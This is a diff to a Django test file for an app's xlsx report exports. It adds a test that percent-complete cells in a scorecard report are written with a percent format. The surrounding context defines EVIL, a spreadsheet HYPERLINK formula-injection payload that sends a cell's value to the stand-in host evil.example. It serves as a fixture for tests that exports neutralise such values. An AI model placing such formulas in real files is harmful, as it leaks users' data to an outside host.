@@ -16,8 +16,10 @@ from django.test import Client
 from tests.apps.conftest import World
 from tests.apps.factories import ChildFactory, FamilyFactory
 from tests.ingest.eppgbm_files import HEADER, PITFALLS, row, write_export
+from tests.xlsx_cells import column_cells
 from tumbuh.accounts.models import Action, AuditEvent
 from tumbuh.cli import main
+from tumbuh.files.xlsx import PERCENT_FORMAT
 from tumbuh.imports.models import ImportJob
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
@@ -85,6 +87,17 @@ def test_the_scorecard_report_neutralises_a_kelurahan_name_and_is_audited(
     assert AuditEvent.objects.filter(
         user=world.admin, action=Action.EXPORT, object_type="scorecard", object_id="71.72"
     ).exists()
+
+
+def test_the_scorecard_report_writes_percent_complete_as_percent_cells(
+    world: World, tmp_path: Path
+) -> None:
+    _evil_family(world)
+    out = tmp_path / "scorecard.xlsx"
+    assert main(["report", "scorecard", "--region", "71.72", "-o", str(out), "--user", "root"]) == 0
+    complete = [cell for cell in column_cells(out, "percent_complete") if cell[0] is not None]
+    assert complete
+    assert all(fmt == PERCENT_FORMAT and 0 <= value <= 1 for value, fmt in complete)
 
 
 def test_the_rejection_report_neutralises_the_files_own_values(
